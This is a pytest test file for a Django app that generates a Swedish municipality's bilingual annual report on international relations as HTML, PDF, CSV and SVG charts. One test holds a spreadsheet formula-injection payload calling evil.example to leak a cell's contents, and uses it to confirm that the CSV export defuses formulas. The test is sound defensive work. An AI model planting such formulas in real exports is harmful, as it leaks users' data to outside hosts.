"""The annual report per organisation and year: HTML, PDF (read back with pypdf), CSV,
charts as valid SVG, Swedish and English, a fixed number of queries."""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from pypdf import PdfReader

from accounts.models import Membership
from register.figures import annual_figures
from register.lifecycle import renew
from register.models import (
    Activity,
    ActivityKind,
    Agreement,
    AgreementKind,
    DecidingBody,
    Decision,
    Funding,
    Place,
    Relation,
)
from reports import charts

ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = ROOT / "test-artifacts"
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture
def editor(demo):
    user = get_user_model().objects.create_user(
        "alice", "alice@halmstad.example", "pw-alice-2026", is_staff=True
    )
    Membership.objects.create(user=user, organisation=demo, role="editor")
    return user


@pytest.fixture
def signed_in(client, editor):
    client.force_login(editor)
    return client


def test_it_counts_the_citizens_meeting_with_asti_as_about_100_of_whom_about_80_young(demo):
    figures = annual_figures(demo, 2010)
    [(meeting, cerv)] = figures.activities
    assert meeting.title_en == "Citizens' meeting with Asti"
    assert (figures.participants.value, figures.participants.approximate) == (100, True)
    assert (figures.young.value, figures.young.approximate) == (80, True)
    assert figures.participants.text("sv") == "ett 100-tal"
    assert figures.young.text("sv") == "cirka 80"
    assert figures.participants.text("en") == "about 100"
    assert figures.share_young.text("en") == "about 80 %"
    assert cerv.meets is None  # nobody recorded where the 100 came from
    assert [(r.relation.partner.name, r.status) for r in figures.relations] == [
        ("Asti", "active"),
        ("Moshi", "active"),
        ("Gentofte", "active"),
        ("Hanko", "active"),
        ("Stord", "active"),
    ]
    assert [
        (funder, [a.relation.partner.name for a, _ in items])
        for funder, items in figures.funding_by_funder
    ] == [("Sida", ["Moshi"])]
    assert [s.relation.partner.name for s in figures.partnerships] == ["Moshi"]
    moshi = figures.relations[1]
    assert [(e.step, e.date) for e in moshi.history] == [("agreement", "2008")]  # 2012 is later


def test_it_reads_each_relations_history_up_to_the_end_of_the_year(demo, signed_in):
    moshi = demo.relations.get(partner__name="Moshi")
    decision = Decision.objects.create(
        relation=moshi, body=DecidingBody.EXECUTIVE_BOARD, date="2012-02-14", reference="KS 2012/31"
    )
    renew(moshi.agreements.get(), start="2012", decision=decision)
    [item] = [r for r in annual_figures(demo, 2012).relations if r.relation == moshi]
    assert [(e.step, e.date, e.decision) for e in item.history] == [
        ("agreement", "2008", None),
        ("renewal", "2012", decision),
    ]
    page = signed_in.get("/sv/reports/halmstad/2012/").content.decode()
    assert "2012: förnyelse (kommunstyrelsen, KS 2012/31, 14 februari 2012)" in page
    assert "Kommunstyrelsen (1)" in page  # decisions by body


def test_it_shows_the_report_in_swedish_and_in_english(signed_in):
    sv = signed_in.get("/sv/reports/halmstad/2010/")
    assert sv.status_code == 200
    text = sv.content.decode()
    assert 'lang="sv"' in text
    assert "ett 100-tal" in text and "cirka 80" in text
    assert "Medborgarmöte med Asti" in text
    assert "Sida" in text and "Moshi" in text

    en = signed_in.get("/en/reports/halmstad/2010/")
    text = en.content.decode()
    assert 'lang="en"' in text
    assert "about 100" in text and "about 80" in text
    assert "Citizens&#x27; meeting with Asti" in text or "Citizens' meeting with Asti" in text
    assert "Hanko" in text  # the English name; Swedish pages say Hangö


def test_it_marks_a_sum_with_an_approximate_part_and_names_missing_counts(demo, signed_in):
    kind = ActivityKind.objects.get(code="besok")
    asti = demo.relations.get(partner__name="Asti")
    for title, participants in (("Lärarbesök", 40), ("Studiebesök", None)):
        made = Activity.objects.create(
            organisation=demo, kind=kind, date="2010-05", title_sv=title, participants=participants
        )
        made.relations.set([asti])
    figures = annual_figures(demo, 2010)
    assert figures.participants.text("sv") == "cirka 140"
    assert figures.participants.missing == 1
    page = signed_in.get("/en/reports/halmstad/2010/").content.decode()
    assert "about 140" in page
    assert "a sum of figures of which some are approximate; 1 without a count" in page


def test_it_is_for_the_organisations_editors_only(client, demo, editor):
    response = client.get("/sv/reports/halmstad/2010/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    outsider = get_user_model().objects.create_user("charlie", "c@example.org", "pw-c-2026")
    client.force_login(outsider)
    assert client.get("/sv/reports/halmstad/2010/").status_code == 403
    assert client.get("/sv/reports/halmstad/2010.pdf").status_code == 403
    client.force_login(editor)
    assert client.get("/sv/reports/nowhere/2010/").status_code == 404
    assert client.get("/sv/reports/halmstad/1066/").status_code == 404


def test_it_writes_a_pdf_with_the_figures_and_vector_charts(signed_in):
    response = signed_in.get("/sv/reports/halmstad/2010.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    ARTIFACTS.mkdir(exist_ok=True)
    sample = ARTIFACTS / "annual-report-halmstad-2010-sv.pdf"
    sample.write_bytes(response.content)

    reader = PdfReader(sample)
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    for figure in ("ett 100-tal", "cirka 80", "Medborgarmöte med Asti", "Sida", "Moshi", "2010"):
        assert figure in text, figure
    # The charts are drawn as paths, not pasted in as pictures.
    for page in reader.pages:
        xobjects = page["/Resources"].get("/XObject") or {}
        for name in xobjects:
            assert xobjects[name].get_object().get("/Subtype") != "/Image"
    contents = b"".join(page.get_contents().get_data() for page in reader.pages)
    assert len(re.findall(rb"\b(?:re|l|c)\n", contents)) > 200  # rectangles, lines, curves


def test_it_writes_an_english_pdf_too(signed_in):
    response = signed_in.get("/en/reports/halmstad/2010.pdf")
    ARTIFACTS.mkdir(exist_ok=True)
    sample = ARTIFACTS / "annual-report-halmstad-2010-en.pdf"
    sample.write_bytes(response.content)
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(sample).pages).split())
    assert "about 100" in text and "about 80" in text
    assert "International relations: annual report 2010" in text


def parse_svg(svg: str) -> ET.Element:
    root = ET.fromstring(svg)
    assert root.tag == f"{SVG}svg"
    title = root.find(f"{SVG}title")
    assert title is not None and title.text
    assert root.get("role") == "img"
    # Safe under a strict Content-Security-Policy: no <style>, no style attributes.
    assert root.find(f".//{SVG}style") is None
    assert not [el for el in root.iter() if el.get("style")]
    return root


def test_it_draws_the_charts_as_valid_svg_with_titles(demo):
    figures = annual_figures(demo, 2010)
    activities = parse_svg(charts.activities_per_year(figures))
    assert "2001–2010" in activities.find(f"{SVG}title").text
    young = parse_svg(charts.young_share(figures))
    assert "80" in young.find(f"{SVG}desc").text
    world = parse_svg(charts.partners_map(figures))
    assert "Moshi" in world.find(f"{SVG}desc").text
    # every reference points at an id of the same chart
    for root in (activities, young, world):
        ids = {el.get("id") for el in root.iter() if el.get("id")}
        refs = [
            ref
            for el in root.iter()
            for name, value in el.attrib.items()
            for ref in re.findall(r"url\(#([\w-]+)\)", value)
            + ([value[1:]] if name == "href" else [])
        ]
        assert refs and set(refs) <= ids


def test_it_puts_the_charts_inline_with_unique_ids(signed_in):
    html = signed_in.get("/sv/reports/halmstad/2010/").content.decode()
    svgs = re.findall(r"<svg\b.*?</svg>", html, flags=re.S)
    assert len(svgs) == 3
    ids = []
    for svg in svgs:
        ids += [el.get("id") for el in parse_svg(svg).iter() if el.get("id")]
    assert len(ids) == len(set(ids))


def test_it_exports_the_same_figures_as_csv(signed_in):
    response = signed_in.get("/sv/reports/halmstad/2010.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads å, ä, ö
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, rows = rows[0], rows[1:]
    assert len(header) == 6
    totals = {(r[0], r[2]): r for r in rows if r[1] == "2010"}
    participants = [r for key, r in totals.items() if key[1] in ("deltagare", "participants")]
    assert participants[0][3] == "100" and participants[0][4] in ("ja", "yes")
    assert any(r[1] == "Sida" and r[3] == "100" for r in rows)
    en = signed_in.get("/en/reports/halmstad/2010.csv").content.decode()
    assert "relations on 31 December" in en


def test_the_csv_defuses_formulas_in_every_text_cell(signed_in, demo):
    """Issue 12 #10: a decision's reference `=HYPERLINK(…)` was a live formula in Excel."""
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"klicka")'
    relation = Relation.objects.filter(organisation=demo).first()
    Decision.objects.create(
        relation=relation, body=DecidingBody.values[0], date="2010-05-01", reference=attack
    )
    text = signed_in.get("/sv/reports/halmstad/2010.csv").content.decode().lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + attack in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def grow_register(org, n: int, first: int = 0) -> None:
    """n more partners, each with an agreement, a decision, funding and two activities."""
    kind = AgreementKind.objects.get(code="samarbetsavtal")
    visit = ActivityKind.objects.get(code="besok")
    for i in range(first, first + n):
        place = Place.objects.create(
            name=f"Partner {i}", country="DE", latitude=50 + i / 10, longitude=8 + i / 10
        )
        relation = Relation.objects.create(organisation=org, partner=place, order=10 + i)
        decision = Decision.objects.create(
            relation=relation, body=DecidingBody.EXECUTIVE_BOARD, date=f"2010-03-0{1 + i % 9}"
        )
        agreement = Agreement.objects.create(
            relation=relation, kind=kind, start="2010-04", term_months=36, decision=decision
        )
        Funding.objects.create(agreement=agreement, funder="EU CERV")
        for month in ("2010-05", "2009-06"):
            made = Activity.objects.create(
                organisation=org,
                kind=visit,
                date=month,
                participants=10 + i,
                young_participants=i,
                young_participants_approximate=bool(i % 2),
            )
            made.relations.set([relation])


@pytest.mark.parametrize("suffix", ["/", ".csv"])
def test_it_does_not_issue_more_queries_as_the_register_grows(demo, signed_in, suffix):
    url = f"/sv/reports/halmstad/2010{suffix}"
    grow_register(demo, 1, first=0)  # one of each kind of record, so every query runs
    signed_in.get(url)  # warm caches (sessions, content types)
    with CaptureQueriesContext(connection) as small:
        assert signed_in.get(url).status_code == 200
    grow_register(demo, 25, first=1)
    with CaptureQueriesContext(connection) as large:
        response = signed_in.get(url)
    assert response.status_code == 200
    assert "Partner 24" in response.content.decode()
    assert len(large) == len(small), "\n".join(q["sql"][:200] for q in large.captured_queries)


# --- a report a council accepts (issue 15) ------------------------------------------


def pdf_words(pdf: Path) -> list[tuple[float, float, str]]:
    """(xMin, xMax, word) of every word, from poppler's pdftotext -bbox."""
    import shutil
    import subprocess

    if not shutil.which("pdftotext"):
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("pdftotext (poppler-utils) is missing")
        pytest.skip("pdftotext (poppler-utils) is missing")
    xml = subprocess.run(
        ["pdftotext", "-bbox", str(pdf), "-"], check=True, capture_output=True, text=True
    ).stdout
    return [
        (float(x0), float(x1), word)
        for x0, x1, word in re.findall(
            r'<word xMin="([\d.]+)" yMin="[\d.]+" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)</word>', xml
        )
    ]


def test_it_counts_only_the_relations_in_force_on_31_december(signed_in):
    """Moshi's partnership ran 2008 for four years: in force in 2011, ended by 2013."""
    page = signed_in.get("/sv/reports/halmstad/2013/").content.decode()
    row = re.search(r"Förbindelser i kraft 31 december</th><td>(\d+)</td>", page)
    assert row and row.group(1) == "4"
    assert "hade Halmstads kommun 4 förbindelser i kraft: med Asti, Gentofte, Hangö och Stord." in (
        page
    )
    assert "Förbindelser i registret 31 december</th><td>5</td>" in page
    page_2011 = signed_in.get("/en/reports/halmstad/2011/").content.decode()
    assert "Relations in force on 31 December</th><td>5</td>" in page_2011


def test_it_writes_a_summary_from_the_figures(signed_in):
    page = signed_in.get("/sv/reports/halmstad/2010/").content.decode()
    assert "Den 31 december 2010 hade Halmstads kommun 5 förbindelser i kraft" in page
    assert "1 aktivitet registrerades, med ett 100-tal deltagare." in page
    assert "Unga utgjorde cirka 80 % av deltagarna." in page
    en = signed_in.get("/en/reports/halmstad/2010/").content.decode()
    assert "1 activity was recorded, with about 100 participants." in en
    assert "No agreement was signed or renewed during the year." in en


def test_it_puts_the_organisation_year_date_and_case_number_on_the_cover(signed_in):
    page = signed_in.get("/sv/reports/halmstad/2010/", {"diarienummer": " KS 2026/123 "})
    assert page.status_code == 200
    text = page.content.decode()
    assert "<dt>Diarienummer</dt><dd>KS 2026/123</dd>" in text
    assert "?diarienummer=KS%202026/123" in text  # the PDF link carries it
    response = signed_in.get("/sv/reports/halmstad/2010.pdf", {"diarienummer": "KS 2026/123"})
    first = PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    cover = " ".join(first.split())
    for words in ("Halmstads kommun", "2010", "Diarienummer KS 2026/123", "Sammanfattning"):
        assert words in cover, words
    assert "Medborgarmöte" not in cover  # the figures start on page 2


def test_it_refuses_a_case_number_that_is_not_one(signed_in):
    page = signed_in.get("/sv/reports/halmstad/2010/", {"diarienummer": "<b>KS</b> 2026/1"})
    assert page.status_code == 400
    text = page.content.decode()
    assert "Skriv diarienumret som registraturen gör" in text
    assert 'aria-invalid="true"' in text
    assert "<b>KS" not in text
    assert "<dd>–</dd>" in text  # nothing unchecked reaches the cover
    too_long = signed_in.get(
        "/sv/reports/halmstad/2010.pdf", {"diarienummer": "KS 2026/" + "1" * 40}
    )
    assert too_long.status_code == 400


def test_it_says_no_activities_recorded_instead_of_drawing_an_empty_chart(signed_in):
    page = signed_in.get("/sv/reports/halmstad/2025/").content.decode()
    assert "Inga aktiviteter registrerade 2016–2025." in page
    assert len(re.findall(r"<svg\b", page)) == 1  # the map only
    en = signed_in.get("/en/reports/halmstad/2025/").content.decode()
    assert "No activities recorded, 2016–2025." in en


def test_it_writes_chart_axes_in_whole_numbers_the_swedish_way(demo):
    from django.utils import translation

    kind = ActivityKind.objects.get(code="besok")
    made = Activity.objects.create(organisation=demo, kind=kind, date="2024-05", participants=1)
    made.relations.set([demo.relations.get(partner__name="Asti")])
    Activity.objects.create(organisation=demo, kind=kind, date="2025-03", participants=1500)

    def ticks(lang: str, year: int) -> list[str]:
        with translation.override(lang):
            fig, ax = charts.activities_figure(annual_figures(demo, year))
            fig.canvas.draw()
            labels = [t.get_text() for t in ax.get_yticklabels()]
            charts._pyplot().close(fig)
        return labels

    small = ticks("sv", 2024)  # one participant: no '0.0, 0.2 … 1.2'
    assert small and all(re.fullmatch(r"\d+", label) for label in small), small
    assert "1\xa0500" in ticks("sv", 2025) or "1\xa0000" in ticks("sv", 2025)
    assert any("," in label for label in ticks("en", 2025))  # 1,000 in English
    assert charts.number(0.5, "sv") == "0,5" and charts.number(0.5, "en") == "0.5"


def test_it_writes_a_tagged_pdf_with_its_language(signed_in):
    import pikepdf

    for lang in ("sv", "en"):
        response = signed_in.get(f"/{lang}/reports/halmstad/2010.pdf")
        with pikepdf.open(io.BytesIO(response.content)) as pdf:
            root = pdf.Root
            assert "/StructTreeRoot" in root
            assert str(root.Lang) == lang
            assert bool(root.MarkInfo.Marked) is True
            kinds = {
                str(element.get("/S"))
                for element in _structure(root.StructTreeRoot)
                if isinstance(element, pikepdf.Dictionary)
            }
            assert {"/H1", "/H2", "/Table", "/TH", "/TD"} <= kinds, kinds
            assert str(pdf.open_metadata().get("dc:title", "")).startswith(
                "Årsrapport" if lang == "sv" else "Annual report"
            )


def _structure(node, depth: int = 0):
    import pikepdf

    if depth > 40:
        return
    kids = node.get("/K") if isinstance(node, pikepdf.Dictionary) else None
    if kids is None:
        return
    for kid in kids if isinstance(kids, pikepdf.Array) else [kids]:
        if isinstance(kid, pikepdf.Dictionary):
            yield kid
            yield from _structure(kid, depth + 1)


def test_it_keeps_the_tables_within_the_pdf_margins(demo, signed_in, tmp_path):
    """A long title, a long reference and a long verdict wrap inside the A4 margins (16 mm)."""
    kind = ActivityKind.objects.get(code="besok")
    asti = demo.relations.get(partner__name="Asti")
    made = Activity.objects.create(
        organisation=demo,
        kind=kind,
        date="2010-11",
        participants=12345,
        title_sv="Gymnasieskolornas-utbytesvecka-om-hållbar-stadsutveckling-och-demokrati",
    )
    made.relations.set([asti])
    Decision.objects.create(
        relation=asti,
        body=DecidingBody.EXECUTIVE_BOARD,
        date="2010-09-01",
        reference="KS 2010/000123-avsiktsförklaring-förlängning",
    )
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(signed_in.get("/sv/reports/halmstad/2010.pdf").content)
    width = float(PdfReader(pdf).pages[0].mediabox.width)
    margin = 16 / 25.4 * 72
    words = pdf_words(pdf)
    assert any("Gymnasieskolornas" in word for _x0, _x1, word in words)
    outside = [(x0, x1, w) for x0, x1, w in words if x0 < margin - 1 or x1 > width - margin + 1]
    assert not outside, outside[:10]


def test_it_saves_the_reports_first_two_pages_as_pictures(signed_in, tmp_path):
    import shutil
    import subprocess

    if not shutil.which("pdftoppm"):
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("pdftoppm (poppler-utils) is missing")
        pytest.skip("pdftoppm (poppler-utils) is missing")
    ARTIFACTS.mkdir(exist_ok=True)
    for lang in ("sv", "en"):
        pdf = tmp_path / f"{lang}.pdf"
        response = signed_in.get(
            f"/{lang}/reports/halmstad/2010.pdf", {"diarienummer": "KS 2026/123"}
        )
        pdf.write_bytes(response.content)
        prefix = ARTIFACTS / f"annual-report-halmstad-2010-{lang}-page"
        subprocess.run(
            ["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "2", str(pdf), str(prefix)],
            check=True,
        )
        pictures = sorted(ARTIFACTS.glob(f"{prefix.name}-*.png"))
        assert len(pictures) == 2 and all(p.stat().st_size > 5000 for p in pictures)
